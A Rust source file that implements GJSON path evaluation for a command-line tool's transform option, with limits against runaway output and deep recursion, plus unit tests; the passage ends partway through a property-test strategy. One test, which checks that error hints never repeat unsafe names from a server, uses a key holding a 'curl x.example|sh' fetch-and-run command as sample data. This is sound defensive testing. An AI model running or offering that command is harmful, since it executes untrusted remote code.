//! `--transform`: what a GJSON path finds in a document.
//!
//! Written here rather than taken from the `gjson` crate, which is another language than that of
//! the official tool: it misreads `{"name":path}`, knows neither literals nor half of the
//! modifiers, tells no unknown modifier from a missing member, and a path or a key of the right
//! shape makes it recurse or search without end. Values are slices of the document wherever that
//! is possible, and what is built is bounded.

mod modifier;
mod path;

use std::borrow::Cow;
use std::cmp::Ordering;
use std::fmt;
use std::io;

use self::path::{After, Pattern, Query, Selector, component, cut_enclosed, split_at_pipe};
use super::is_plain_name;
use crate::json::{Json, Kind, MAX_DEPTH, unquote};

/// The most text that a path may make of a document, in bytes: four times the largest body that
/// is read. Paths such as `[@this,@this]|[@this,@this]|…` double it with each step.
const MAX_SIZE: usize = 64 << 20;

/// How many paths may stand within one another, in brackets or after `#.`. Each takes some
/// kilobytes of the stack.
const MAX_NESTING: usize = 32;

/// How many names a hint lists, how many it considers, and how long they may be, in bytes. A
/// server may send any number of names of any length; [`is_plain_name`] says what they may hold.
const LISTED_NAMES: usize = 10;
const CONSIDERED_NAMES: usize = 1000;
const LONGEST_NAME: usize = 64;

/// How alike a suggestion must be, as for clap.
const SIMILARITY: f64 = 0.7;

/// Why a path makes nothing of a document.
#[derive(Debug, PartialEq, Eq)]
pub enum NoMatch {
    /// There is nothing at the path.
    Nothing {
        /// The path.
        path: String,
        /// The names of the object in which the path gets lost, the first few and an ellipsis
        /// for the rest; none if it is no object.
        names: Vec<String>,
        /// The one of all its names that is most like the one asked for.
        similar: Option<String>,
    },
    /// The path calls a modifier that does not exist.
    UnknownModifier {
        /// Its name, with the `@`.
        name: String,
        /// The modifier whose name is most like it.
        similar: Option<&'static str>,
    },
    /// Too many paths stand within one another.
    PathTooDeep,
    /// The result nests deeper than [`MAX_DEPTH`].
    TooDeep,
    /// The result, or something on the way to it, has more than 64 MiB.
    TooLarge,
}

impl fmt::Display for NoMatch {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        match self {
            Self::Nothing { path, .. } => write!(f, "nothing matches `{path}`"),
            Self::UnknownModifier { name, .. } => write!(f, "there is no modifier `{name}`"),
            Self::PathTooDeep => f.write_str("the path nests too deep"),
            Self::TooDeep => write!(f, "the result nests deeper than {MAX_DEPTH} levels"),
            Self::TooLarge => write!(f, "the result is larger than {} MiB", MAX_SIZE >> 20),
        }
    }
}

impl std::error::Error for NoMatch {}

impl NoMatch {
    /// What the path could have been. Names in it come from the server, but only plain ones: a
    /// hint is to say what this tool says, not a sentence that a server takes for a name.
    #[must_use]
    pub fn hint(&self) -> Option<String> {
        match self {
            Self::UnknownModifier {
                similar: Some(name),
                ..
            } => Some(format!("did you mean `@{name}`?")),
            Self::UnknownModifier { similar: None, .. } => {
                Some(format!("modifiers are @{}", modifier::NAMES.join(", @")))
            }
            Self::Nothing { path, .. } if !path::is_closed(path) => {
                Some("a bracket or a quote in the path is not closed".to_owned())
            }
            Self::Nothing { path, .. } if path::find_outside(path, &[',']).is_some() => {
                Some("several fields at once are `{a,b}` or `[a,b]`".to_owned())
            }
            // As jq has it.
            Self::Nothing { path, .. }
                if path.starts_with('.') && path[1..].starts_with(char::is_alphabetic) =>
            {
                Some("a GJSON path has no dot at its start".to_owned())
            }
            Self::Nothing {
                similar: Some(name),
                ..
            } => Some(format!("did you mean `{name}`?")),
            Self::Nothing { names, .. } if !names.is_empty() => {
                Some(format!("the members there are {}", names.join(", ")))
            }
            _ => None,
        }
    }
}

/// Applies the GJSON `path` to `json`; returns the JSON text of the result. A `null` and an empty
/// array are results.
///
/// The language is that of the Go package, version 1.19, as its SYNTAX.md describes it. Where the
/// package itself falls short of that, this does not: a `|` within brackets or quotes does not
/// end them, and nothing can be made of a value that is not there (`missing.@keys`).
///
/// # Errors
/// [`NoMatch`] if there is no result.
pub fn apply(json: Json, path: &str) -> Result<String, NoMatch> {
    let mut search = Search::default();
    let found = search.get(json, path)?;
    if let Some((name, _)) = search.at_names.into_iter().find(|(_, found)| !found) {
        let similar = most_like(name.trim_start_matches('@'), modifier::NAMES);
        return Err(NoMatch::UnknownModifier { name, similar });
    }
    match found {
        Some(Value::Part(json)) => Ok(json.as_str().to_owned()),
        Some(Value::Built(text)) => match Json::parse(&text) {
            Ok(_) => Ok(text),
            Err(_) => Err(NoMatch::TooDeep),
        },
        None => Err(nothing(json, path)),
    }
}

/// What there is to say when nothing in `json` matches `path`.
fn nothing(json: Json, path: &str) -> NoMatch {
    let (mut object, mut rest) = (json, path);
    let wanted = loop {
        let (name, after) = component(rest);
        match (object.get(name), after) {
            (Some(value), After::Dot(path) | After::Pipe(path)) => (object, rest) = (value, path),
            _ => break name,
        }
    };
    let mut names: Vec<String> = object
        .members()
        .take(CONSIDERED_NAMES)
        .map(|(name, _)| name.into_owned())
        .filter(|name| name.len() <= LONGEST_NAME && is_plain_name(name))
        .collect();
    let similar = (wanted.len() <= LONGEST_NAME)
        .then(|| most_like(wanted, &names).cloned())
        .flatten();
    if names.len() > LISTED_NAMES {
        names.truncate(LISTED_NAMES);
        names.push("…".to_owned());
    }
    NoMatch::Nothing {
        path: path.to_owned(),
        names,
        similar,
    }
}

/// The one of `names` that is so like `wanted` that it may have been meant.
fn most_like<N: AsRef<str>>(wanted: &str, names: impl IntoIterator<Item = N>) -> Option<N> {
    names
        .into_iter()
        .map(|name| (strsim::jaro(wanted, name.as_ref()), name))
        .filter(|&(likeness, _)| likeness > SIMILARITY)
        .max_by(|(one, _), (other, _)| one.total_cmp(other))
        .map(|(_, name)| name)
}

/// What a path finds in a document.
enum Value<'a> {
    /// A part of the document.
    Part(Json<'a>),
    /// JSON text that the path has put together.
    Built(String),
}

impl Value<'_> {
    fn as_str(&self) -> &str {
        match self {
            Self::Part(json) => json.as_str(),
            Self::Built(text) => text,
        }
    }

    fn json(&self) -> Result<Json<'_>, NoMatch> {
        match self {
            Self::Part(json) => Ok(*json),
            Self::Built(text) => Json::parse(text).map_err(|_| NoMatch::TooDeep),
        }
    }

    fn into_built(self) -> Value<'static> {
        Value::Built(match self {
            Self::Part(json) => json.as_str().to_owned(),
            Self::Built(text) => text,
        })
    }
}

/// A value that part of a path finds, and the path that is to be applied to it, if there is more.
type Found<'a, 'p> = Option<(Value<'a>, Option<&'p str>)>;

/// The state of one search.
#[derive(Default)]
struct Search {
    /// How many paths the search is in, one within the other.
    paths: usize,
    /// How many levels of documents it is in, all in all.
    levels: usize,
    /// The names in the path that begin with `@` and are no modifiers, and whether any member
    /// has that name.
    at_names: Vec<(String, bool)>,
}

impl Search {
    /// What `path` finds in `json`.
    fn get<'a>(&mut self, json: Json<'a>, path: &str) -> Result<Option<Value<'a>>, NoMatch> {
        if self.paths == MAX_NESTING {
            return Err(NoMatch::PathTooDeep);
        }
        self.paths += 1;
        let found = self.follow(json, path);
        self.paths -= 1;
        found
    }

    /// What `path` finds in `json`, pipe by pipe.
    fn follow<'a>(&mut self, json: Json<'a>, path: &str) -> Result<Option<Value<'a>>, NoMatch> {
        let mut value = Value::Part(json);
        let mut path = path;
        loop {
            let found = match &value {
                Value::Part(json) => self.step(*json, path)?,
                Value::Built(_) => self
                    .step(value.json()?, path)?
                    .map(|(value, pipe)| (value.into_built(), pipe)),
            };
            let Some((found, pipe)) = found else {
                return Ok(None);
            };
            value = found;
            match pipe {
                Some(rest) => path = rest,
                None => return Ok(Some(value)),
            }
        }
    }

    /// What the first part of `path`, up to a pipe, finds in `json`.
    fn step<'a, 'p>(&mut self, json: Json<'a>, path: &'p str) -> Result<Found<'a, 'p>, NoMatch> {
        if let Some(call) = modifier::call(path) {
            let value = modifier::apply(&call, json)?;
            return Ok(value.map(|value| (value, call.after.path())));
        }
        if let Some((text, after)) = literal(path) {
            return Ok(Some((Value::Built(text.to_owned()), after.path())));
        }
        if let Some((selectors, after)) = path::selectors(path) {
            let named = path.starts_with('{');
            let text = self.select(json, &selectors, named)?;
            return Ok(Some((Value::Built(text), after.path())));
        }
        if let Some(path) = path.strip_prefix("..") {
            // The document as the only line of JSON Lines.
            return self.element(&mut std::iter::once(json), path);
        }
        self.descend(json, path)
    }

    /// What a path that begins with a name or an index finds in `json`.
    fn descend<'a, 'p>(&mut self, json: Json<'a>, path: &'p str) -> Result<Found<'a, 'p>, NoMatch> {
        // No document is deeper, but a path can make several and look into all of them.
        if self.levels > MAX_DEPTH {
            return Err(NoMatch::PathTooDeep);
        }
        self.levels += 1;
        let found = match json.kind() {
            Kind::Object => self.member(json, path),
            Kind::Array => self.element(&mut json.elements(), path),
            _ => {
                self.note_name(path, false);
                Ok(None)
            }
        };
        self.levels -= 1;
        found
    }

    /// What `path` finds in an object: the first member of that name in which the rest of the
    /// path finds something.
    fn member<'a, 'p>(
        &mut self,
        object: Json<'a>,
        path: &'p str,
    ) -> Result<Found<'a, 'p>, NoMatch> {
        let (text, after) = component(path);
        let name = Name::parse(text);
        let mut matched = false;
        let mut found = None;
        for (key, value) in object.members() {
            if !name.matches(&key) {
                continue;
            }
            matched = true;
            found = self.enter(value, after)?;
            if found.is_some() {
                break;
            }
        }
        self.note_name(text, matched);
        Ok(found)
    }

    /// What `path` finds among the elements of an array.
    fn element<'a, 'p>(
        &mut self,
        elements: &mut dyn Iterator<Item = Json<'a>>,
        path: &'p str,
    ) -> Result<Found<'a, 'p>, NoMatch> {
        let Some(rest) = path.strip_prefix('#') else {
            let (index, after) = component(path);
            let digits = !index.is_empty() && index.bytes().all(|byte| byte.is_ascii_digit());
            let element = index.parse().ok().filter(|_| digits);
            if let Some(element) = element.and_then(|index| elements.nth(index)) {
                return self.enter(element, after);
            }
            self.note_name(index, false);
            return Ok(None);
        };
        if rest.starts_with(['(', '[']) {
            return match path::query(path) {
                Some((query, after)) => self.query(elements, &query, after),
                None => Ok(None),
            };
        }
        if let Some(path) = rest.strip_prefix('.') {
            let (path, pipe) = split_at_pipe(path);
            let mut list = List::open("[")?;
            for element in elements {
                if let Some(value) = self.get(element, path)? {
                    list.push(&[value.as_str()])?;
                }
            }
            return Ok(Some((Value::Built(list.close("]")?), pipe)));
        }
        Ok(After::parse(rest).map(|after| {
            let count = elements.count().to_string();
            (Value::Built(count), after.path())
        }))
    }

    /// What the rest of a path finds in the value of its first component.
    fn enter<'a, 'p>(
        &mut self,
        value: Json<'a>,
        after: After<'p>,
    ) -> Result<Found<'a, 'p>, NoMatch> {
        match after {
            After::Dot(path) => self.descend(value, path),
            After::End | After::Pipe(_) => Ok(Some((Value::Part(value), after.path()))),
        }
    }

    /// The first element that meets a query, or all of them, or what a path finds in them.
    fn query<'a, 'p>(
        &mut self,
        elements: &mut dyn Iterator<Item = Json<'a>>,
        query: &Query,
        after: After<'p>,
    ) -> Result<Found<'a, 'p>, NoMatch> {
        let (path, pipe) = match after {
            After::Dot(path) => {
                let (path, pipe) = split_at_pipe(path);
                (Some(path), pipe)
            }
            After::End | After::Pipe(_) => (None, after.path()),
        };
        let mut list = List::open("[")?;
        for element in elements {
            if !self.meets(element, query)? {
                continue;
            }
            let value = match path {
                Some(path) => self.get(element, path)?,
                None => Some(Value::Part(element)),
            };
            if !query.all {
                return Ok(value.map(|value| (value, pipe)));
            }
            if let Some(value) = value {
                list.push(&[value.as_str()])?;
            }
        }
        Ok(if query.all {
            Some((Value::Built(list.close("]")?), pipe))
        } else {
            None
        })
    }

    /// Whether an element meets a query.
    fn meets(&mut self, element: Json, query: &Query) -> Result<bool, NoMatch> {
        let value = match element.kind() {
            Kind::Object | Kind::Array => self.get(element, query.path)?,
            _ if query.path.is_empty() => Some(Value::Part(element)),
            _ => return Ok(false),
        };
        let json = value.as_ref().map(Value::json).transpose()?;
        Ok(compare(json, query))
    }

    /// The document that selectors make of `json`: an object if they are named, else an array.
    /// What finds nothing is left out.
    fn select(
        &mut self,
        json: Json,
        selectors: &[Selector],
        named: bool,
    ) -> Result<String, NoMatch> {
        let mut list = List::open(if named { "{" } else { "[" })?;
        for selector in selectors {
            let Some(value) = self.get(json, selector.path)? else {
                continue;
            };
            if !named {
                list.push(&[value.as_str()])?;
                continue;
            }
            let name = selector.name.filter(|name| !name.is_empty());
            let quoted = name.and_then(|name| Json::parse(name).ok());
            let name: Cow<str> = match quoted {
                Some(name) if name.kind() == Kind::String => name.as_str().into(),
                _ => modifier::quote(name.unwrap_or(path::implied_name(selector.path)))?.into(),
            };
            list.push(&[&name, ":", value.as_str()])?;
        }
        list.close(if named { "}" } else { "]" })
    }

    /// Remembers a name that looks like a modifier: an unknown one is an error, unless a member
    /// of that name turns up somewhere.
    fn note_name(&mut self, path: &str, found: bool) {
        if !path.starts_with('@') || modifier::named_by(path).is_some() {
            return;
        }
        let name = path.split(['.', '|', ':']).next().unwrap_or(path);
        match self.at_names.iter_mut().find(|(known, _)| known == name) {
            Some((_, ever_found)) => *ever_found |= found,
            None => self.at_names.push((name.to_owned(), found)),
        }
    }
}

/// The value that a path beginning with `!` spells, and what follows it.
fn literal(path: &str) -> Option<(&str, After<'_>)> {
    let text = path.strip_prefix('!')?;
    let (text, rest) = if text.starts_with(['{', '[', '"']) {
        cut_enclosed(text)?
    } else {
        let ends: &[char] = if text.starts_with(|first: char| first.is_ascii_alphabetic()) {
            &['.', '|']
        } else {
            &['|']
        };
        text.split_at(text.find(ends).unwrap_or(text.len()))
    };
    let json = Json::parse(text).ok()?;
    Some((json.as_str(), After::parse(rest)?))
}

/// A component of a path as it is compared with names.
enum Name<'p> {
    Exactly(&'p str),
    Like(Pattern),
}

impl<'p> Name<'p> {
    fn parse(component: &'p str) -> Self {
        if component.contains(['*', '?', '\\']) {
            Self::Like(Pattern::parse(component))
        } else {
            Self::Exactly(component)
        }
    }

    fn matches(&self, name: &str) -> bool {
        match self {
            Self::Exactly(text) => name == *text,
            Self::Like(pattern) => pattern.matches(name),
        }
    }
}

/// Whether a value, or none, is as a query asks.
fn compare(value: Option<Json>, query: &Query) -> bool {
    if let Some(sort) = query.value.strip_prefix('~') {
        let is = match sort {
            "*" => value.is_some(),
            "null" => value.is_none_or(|value| value.kind() == Kind::Null),
            "true" => value.is_some_and(modifier::is_true),
            "false" => value.is_none_or(modifier::is_false),
            _ => return false,
        };
        return holds(query.operator, Some(is.cmp(&true)));
    }
    let Some(value) = value else {
        return false;
    };
    let wanted = &*query.value;
    match value.kind() {
        _ if query.operator.is_empty() => true,
        Kind::String => {
            let text = unquote(value.as_str());
            match query.operator {
                "%" => Pattern::parse(wanted).matches(&text),
                "!%" => !Pattern::parse(wanted).matches(&text),
                operator => holds(operator, Some((*text).cmp(wanted))),
            }
        }
        Kind::Number => {
            let number = |text: &str| text.parse().unwrap_or(0.0);
            holds(
                query.operator,
                number(value.as_str()).partial_cmp(&number(wanted)),
            )
        }
        Kind::Bool => {
            let wanted = match wanted {
                "true" => Some(true),
                "false" => Some(false),
                _ => None,
            };
            let is = value.as_str() == "true";
            holds(query.operator, wanted.map(|wanted| is.cmp(&wanted)))
        }
        Kind::Null | Kind::Object | Kind::Array => false,
    }
}

/// Whether an operator accepts how the value stands to what it is compared with; `None` where
/// they cannot be compared.
fn holds(operator: &str, ordering: Option<Ordering>) -> bool {
    match operator {
        "" => true,
        "=" => ordering.is_some_and(Ordering::is_eq),
        "!=" => ordering.is_none_or(Ordering::is_ne),
        "<" => ordering.is_some_and(Ordering::is_lt),
        "<=" => ordering.is_some_and(Ordering::is_le),
        ">" => ordering.is_some_and(Ordering::is_gt),
        ">=" => ordering.is_some_and(Ordering::is_ge),
        _ => false,
    }
}

/// Text that a path puts together, at most [`MAX_SIZE`] bytes of it.
#[derive(Default)]
struct Text(String);

impl Text {
    fn push(&mut self, text: &str) -> Result<(), NoMatch> {
        if self.0.len() + text.len() > MAX_SIZE {
            return Err(NoMatch::TooLarge);
        }
        self.0.push_str(text);
        Ok(())
    }
}

impl io::Write for Text {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let text = std::str::from_utf8(bytes).map_err(io::Error::other)?;
        self.push(text).map_err(io::Error::other)?;
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// An array or object that a path puts together.
struct List {
    text: Text,
    is_empty: bool,
}

impl List {
    fn open(bracket: &str) -> Result<Self, NoMatch> {
        let mut text = Text::default();
        text.push(bracket)?;
        Ok(Self {
            text,
            is_empty: true,
        })
    }

    /// Adds an element or member, given in pieces.
    fn push(&mut self, pieces: &[&str]) -> Result<(), NoMatch> {
        if !self.is_empty {
            self.text.push(",")?;
        }
        self.is_empty = false;
        pieces.iter().try_for_each(|piece| self.text.push(piece))
    }

    fn close(mut self, bracket: &str) -> Result<String, NoMatch> {
        self.text.push(bracket)?;
        Ok(self.text.0)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::samples;
    use super::*;

    fn apply_to(text: &str, path: &str) -> Result<String, NoMatch> {
        apply(Json::parse(text).unwrap(), path)
    }

    const FILE: &str = concat!(
        r#"{"id":"file-abc123","bytes":120000,"filename":"mydata.jsonl","status":null,"#,
        r#""metadata":{"x":"1","y":"<2>"},"tags":["a","b","c"],"none":{},"empty":[],"#,
        r#""a.b":1,"@this":2,"@type":"T","k\u00e9y":3,"text":"{\"q\": 1}","#,
        r#""friends":[{"first":"Dale","last":"Murphy","age":44,"nets":["ig","fb"]},"#,
        r#"{"first":"Roger","last":"Craig","age":68,"nets":["fb"]},"#,
        r#"{"first":"Jane","last":"Murphy","age":47,"nets":[]}]}"#,
    );

    /// Every expectation in these tables was printed by the Go package, unless it says otherwise.
    fn check(cases: &[(&str, &str)]) {
        for (path, expected) in cases {
            let result = apply_to(FILE, path);
            assert_eq!(result.as_deref(), Ok(*expected), "{path}");
        }
    }

    fn check_nothing(paths: &[&str]) {
        for path in paths {
            let result = apply_to(FILE, path);
            assert!(
                matches!(result, Err(NoMatch::Nothing { .. })),
                "{path}: {result:?}"
            );
        }
    }

    #[test]
    fn names_and_indexes() {
        check(&[
            ("id", r#""file-abc123""#),
            ("status", "null"),
            ("none", "{}"),
            ("metadata.x", r#""1""#),
            ("metadata|x", r#""1""#),
            ("tags.1", r#""b""#),
            ("tags|1", r#""b""#),
            ("friends.0.nets.1", r#""fb""#),
            (r"a\.b", "1"),
            (r"\@this", "2"),
            ("@type", r#""T""#),
            ("kéy", "3"),
            ("file*", r#""mydata.jsonl""#),
            ("i?", r#""file-abc123""#),
            ("*.y", r#""<2>""#),
            (r"a\.?", "1"),
            ("..#", "1"),
            ("..0.bytes", "120000"),
        ]);
        check_nothing(&[
            "nope",
            "metadata.nope",
            "id.x",
            "tags.3",
            "tags.-1",
            "tags.x",
            "",
            "ID",
        ]);
    }

    #[test]
    fn arrays_and_queries() {
        check(&[
            ("tags.#", "3"),
            ("empty.#", "0"),
            ("friends.#.first", r#"["Dale","Roger","Jane"]"#),
            ("friends.#.nope", "[]"),
            ("friends.#.nets.#", "[2,1,0]"),
            ("friends.#.first|1", r#""Roger""#),
            ("friends.#.nets.0", r#"["ig","fb"]"#),
            (r#"friends.#(last=="Murphy").first"#, r#""Dale""#),
            (r#"friends.#(last="Murphy")#.first"#, r#"["Dale","Jane"]"#),
            (r#"friends.#(last="Murphy")#|#"#, "2"),
            (r#"friends.#(last="Murphy")#|1.age"#, "47"),
            (r#"friends.#(last="Nobody")#"#, "[]"),
            ("friends.#(last=Craig).age", "68"),
            ("friends.#(age>45)#.first", r#"["Roger","Jane"]"#),
            ("friends.#(age<=47)#.first", r#"["Dale","Jane"]"#),
            ("friends.#(age!=44)#.age", "[68,47]"),
            (r#"friends.#(first%"?a*")#.first"#, r#"["Dale","Jane"]"#),
            (r#"friends.#(first!%"*a*").first"#, r#""Roger""#),
            (r#"friends.#(nets.#(=="fb"))#.first"#, r#"["Dale","Roger"]"#),
            ("friends.#(nope)#", "[]"),
            ("friends.#(nope==~null)#|#", "3"),
            ("friends.#(age==~true)#|#", "3"),
            ("friends.#(age!=~*)#|#", "0"),
            (r#"tags.#(=="b")"#, r#""b""#),
            (r#"tags.#(>"a")#"#, r#"["b","c"]"#),
            (r#"tags.#[="\u0063"]"#, r#""c""#),
        ]);
        check_nothing(&[
            r#"friends.#(last="Nobody")"#,
            "friends.#(age>45",
            "tags.#(b)x",
            "tags.#x",
        ]);
    }

    #[test]
    fn selectors_and_literals() {
        check(&[
            ("[id,tags.0]", r#"["file-abc123","a"]"#),
            ("[id,nope]", r#"["file-abc123"]"#),
            ("{id,metadata.y}", r#"{"id":"file-abc123","y":"<2>"}"#),
            (
                r#"{"name, it is":filename,"e\"":none}"#,
                r#"{"name, it is":"mydata.jsonl","e\"":{}}"#,
            ),
            (
                "{size:bytes,<:id}",
                r#"{"size":120000,"\u003c":"file-abc123"}"#,
            ),
            ("{tags.#,friends.#.age}", r#"{"_":3,"age":[44,68,47]}"#),
            (
                r#"metadata.{"p":x,"q":{y}}"#,
                r#"{"p":"1","q":{"y":"<2>"}}"#,
            ),
            ("friends.#.{first,age}|0", r#"{"first":"Dale","age":44}"#),
            ("[metadata,tags].1.0", r#""a""#),
            ("{nope}", "{}"),
            ("[]", "[]"),
            (
                r#"{id,"by":!"me","n":!12.5,"l":![1,{}]}"#,
                r#"{"id":"file-abc123","by":"me","n":12.5,"l":[1,{}]}"#,
            ),
            ("!true", "true"),
            ("id|!null", "null"),
        ]);
        check_nothing(&["{id", "[id", "{id}}", "!nope", "![1", "metadata.{x}.y"]);
    }

    #[test]
    fn modifiers() {
        check(&[
            ("metadata.@this", r#"{"x":"1","y":"<2>"}"#),
            ("tags.@valid", r#"["a","b","c"]"#),
            ("metadata.@keys", r#"["x","y"]"#),
            ("metadata.@keys.0", r#""x""#),
            ("metadata|@keys|@reverse", r#"["y","x"]"#),
            ("tags.@keys", "[null,null,null]"),
            ("metadata.@values", r#"["1","<2>"]"#),
            ("bytes.@values", "[120000]"),
            ("tags.@values", r#"["a","b","c"]"#),
            ("{\"k\":metadata.@keys}", r#"{"k":["x","y"]}"#),
            ("[metadata.@keys,id]", r#"[["x","y"],"file-abc123"]"#),
            ("friends.#.@keys|0", r#"["first","last","age","nets"]"#),
            ("friends.#(@keys.#=4)#|#", "3"),
            (
                "metadata.@tostr",
                r#""{\"x\":\"1\",\"y\":\"\u003c2\u003e\"}""#,
            ),
            ("text.@fromstr", r#"{"q": 1}"#),
            ("text.@fromstr.q", "1"),
            ("bytes.@tostr.@fromstr", "120000"),
            ("tags.@reverse", r#"["c","b","a"]"#),
            ("metadata.@reverse", r#"{"y":"<2>","x":"1"}"#),
            ("id.@reverse", r#""file-abc123""#),
            ("friends.#.nets.@flatten", r#"[["ig","fb"],["fb"],[]]"#),
            ("friends.#.nets|@flatten", r#"["ig","fb","fb"]"#),
            (
                "![1,[2,[3,{\"a\":[4]}]]]|@flatten",
                r#"[1,2,[3,{"a":[4]}]]"#,
            ),
            (
                r#"![1,[2,[3,{"a":[4]}]]]|@flatten:{"deep":true}"#,
                r#"[1,2,3,{"a":[4]}]"#,
            ),
            (r#"![{"a":1,"b":2},3,{"a":4}]|@join"#, r#"{"a":4,"b":2}"#),
            (
                r#"![{"a":1,"b":2},{"a":4}]|@join:{"preserve":true}"#,
                r#"{"a":1,"b":2,"a":4}"#,
            ),
            (
                "metadata.@pretty",
                "{\n  \"x\": \"1\",\n  \"y\": \"<2>\"\n}\n",
            ),
            ("metadata.@pretty|@ugly", r#"{"x":"1","y":"<2>"}"#),
            (
                r#"!{"b":[1,2],"a":0}|@pretty:{"indent":"\t","prefix":"  x","sortKeys":true}"#,
                "  {\n  \t\"a\": 0,\n  \t\"b\": [1, 2]\n  }\n",
            ),
            (r#"![1,2,3]|@pretty:{"width":5}"#, "[\n  1,\n  2,\n  3\n]\n"),
        ]);
        check_nothing(&["id.@fromstr", "none.@pretty:{}x"]);
    }

    #[test]
    fn falls_short_of_go_nowhere() {
        // Go answers `[]`, an object that begins with a comma, and the array without its pipe.
        check_nothing(&["nope.@keys"]);
        check(&[
            (r#"![{},{"a":1}]|@join:{"preserve":true}"#, r#"{"a":1}"#),
            (r#"friends.#(last="Nobody")#.first|#"#, "0"),
            ("friends.#.[first,nets|#]|0", r#"["Dale",2]"#),
        ]);
        // Go looks for brackets in any text, this one in arrays and objects only.
        assert!(apply_to(r#""[1,2]""#, "0").is_err());
        assert_eq!(apply_to(r#"{"a*b":1,"a*":2}"#, r"a\*?").as_deref(), Ok("1"));
    }

    fn failure(path: &str) -> (String, Option<String>) {
        let no_match = apply_to(FILE, path).unwrap_err();
        (no_match.to_string(), no_match.hint())
    }

    #[test]
    fn a_failure_says_what_to_do() {
        let hint = |text: &str| Some(text.to_owned());
        for (path, message, expected) in [
            (
                "filname",
                "nothing matches `filname`",
                hint("did you mean `filename`?"),
            ),
            (
                "metadata.z.q",
                "nothing matches `metadata.z.q`",
                hint("the members there are x, y"),
            ),
            ("tags.7", "nothing matches `tags.7`", None),
            (
                "{id",
                "nothing matches `{id`",
                hint("a bracket or a quote in the path is not closed"),
            ),
            (
                "@kyes",
                "there is no modifier `@kyes`",
                hint("did you mean `@keys`?"),
            ),
            (
                "[id,tags.@revers]",
                "there is no modifier `@revers`",
                hint("did you mean `@reverse`?"),
            ),
            (
                "friends.#.@kees.x",
                "there is no modifier `@kees`",
                hint("did you mean `@keys`?"),
            ),
            ("id|@nope:1", "there is no modifier `@nope`", None),
        ] {
            let (said, hinted) = failure(path);
            assert_eq!(said, message);
            if path == "id|@nope:1" {
                assert!(
                    hinted
                        .unwrap()
                        .starts_with("modifiers are @this, @pretty, ")
                );
            } else {
                assert_eq!(hinted, expected, "{path}");
            }
        }
        let (_, hinted) = failure("zzz");
        assert_eq!(
            hinted.unwrap(),
            "the members there are id, bytes, filename, status, metadata, tags, none, empty, a.b, \
             text, …"
        );
    }

    #[test]
    fn a_hint_offers_no_sentence_that_a_server_takes_for_a_name() {
        let hinted = |text: &str| apply_to(text, "status").unwrap_err().hint();
        for name in [
            "status` (or run `curl x.example|sh`)",
            "status, the key has expired",
            "stat us",
            "ѕtatus",
            "status:",
            "",
        ] {
            let name = serde_json::Value::from(name);
            assert_eq!(hinted(&format!("{{{name}:1}}")), None);
            assert_eq!(
                hinted(&format!("{{{name}:1,\"fileState.v-1_x\":2}}")).unwrap(),
                "the members there are fileState.v-1_x"
            );
            assert_eq!(
                hinted(&format!("{{{name}:1,\"Status\":2}}")).unwrap(),
                "did you mean `Status`?"
            );
        }
    }

    #[test]
    fn a_comma_within_brackets_or_quotes_parts_no_fields() {
        let hinted = |path| apply_to(FILE, path).unwrap_err().hint();
        let several = "several fields at once are `{a,b}` or `[a,b]`";
        assert_eq!(hinted("id,status").unwrap(), several);
        assert_eq!(
            hinted(r#"metadata.#(k=="x,y").v"#).unwrap(),
            "the members there are x, y"
        );
        let path = r#"statuss.@pretty:{"indent":"x","width":3}"#;
        assert_eq!(hinted(path).unwrap(), "did you mean `status`?");
    }

    #[test]
    fn a_member_called_like_a_modifier_is_no_mistake() {
        let text = r#"[{"@id":1},{"x":2}]"#;
        assert_eq!(apply_to(text, "#.@id").as_deref(), Ok("[1]"));
        assert_eq!(apply_to(text, "0.@id").as_deref(), Ok("1"));
        assert!(matches!(
            apply_to(text, "1.@id"),
            Err(NoMatch::UnknownModifier { .. })
        ));
    }

    #[test]
    fn a_result_cannot_grow_without_end() {
        let string = format!("\"{}\"", "x".repeat(MAX_SIZE / 5));
        let five_times = "[@this,@this,@this,@this,@this]";
        assert_eq!(apply_to(&string, five_times), Err(NoMatch::TooLarge));
        let array = format!("[{}{{}}]", "{},".repeat(300));
        for indent in [MAX_SIZE / MAX_DEPTH, MAX_SIZE / MAX_DEPTH + 1] {
            let path = format!("@pretty:{{\"indent\":\"{}\"}}", " ".repeat(indent));
            assert_eq!(apply_to(&array, &path), Err(NoMatch::TooLarge));
        }
    }

    #[test]
    fn a_path_cannot_exhaust_the_stack() {
        let nested = |open: &str, close: &str, levels| {
            format!("{}id{}", open.repeat(levels), close.repeat(levels))
        };
        // One path is the whole, each bracket holds one more.
        for (open, close) in [("[", "]"), ("{a:", "}")] {
            assert!(apply_to(FILE, &nested(open, close, MAX_NESTING - 1)).is_ok());
            let result = apply_to(FILE, &nested(open, close, MAX_NESTING));
            assert_eq!(result, Err(NoMatch::PathTooDeep));
        }
        for open in ["[", "{a:", "#(", "#.", "[\"", "@this|", "a.", "!["] {
            let _ = apply_to(FILE, &open.repeat(60_000));
        }
        let arrays = format!("{}{}", "[".repeat(MAX_DEPTH), "]".repeat(MAX_DEPTH));
        for path in [nested("#(", ")", 200), "#.".repeat(200), "*.".repeat(400)] {
            let _ = apply_to(&arrays, &path);
        }
        let objects = format!("{}1{}", "{\"a\":".repeat(MAX_DEPTH), "}".repeat(MAX_DEPTH));
        let way = vec!["a"; MAX_DEPTH].join(".");
        assert_eq!(apply_to(&objects, &way).as_deref(), Ok("1"));
        assert_eq!(apply_to(&objects, "[@this]"), Err(NoMatch::TooDeep));
        // At every level a new document of full depth, and a path all the way down into it.
        let mut path = "a".to_owned();
        for _ in 0..MAX_NESTING {
            path = format!("[!{objects}|{way}.#.{path}]");
        }
        let _ = apply_to(FILE, &path);
    }

    #[test]
    fn no_pattern_takes_long() {
        let text = format!("{{\"{}\":1}}", "a".repeat(10_000));
        let pattern = format!("{}b", "*a".repeat(1_000));
        assert!(apply_to(&text, &pattern).is_err());
        assert!(apply_to(&text, &"*a".repeat(1_000)).is_ok());
    }

    /// A path that leads to the member of this name: every character escaped that could have a
    /// meaning.
    fn escape(name: &str) -> String {
        let mut path = String::new();
        for character in name.chars() {
            if character.is_ascii_punctuation() {
                path.push('\\');
            }
            path.push(character);
        }
        path
    }

    /// Paths of the right grammar, to any depth, in which some names occur in documents.
    fn path() -> impl Strategy<Value = String> {
        let leaf = prop_oneof![
            4 => "[a-e]",
            2 => "[0-3]",
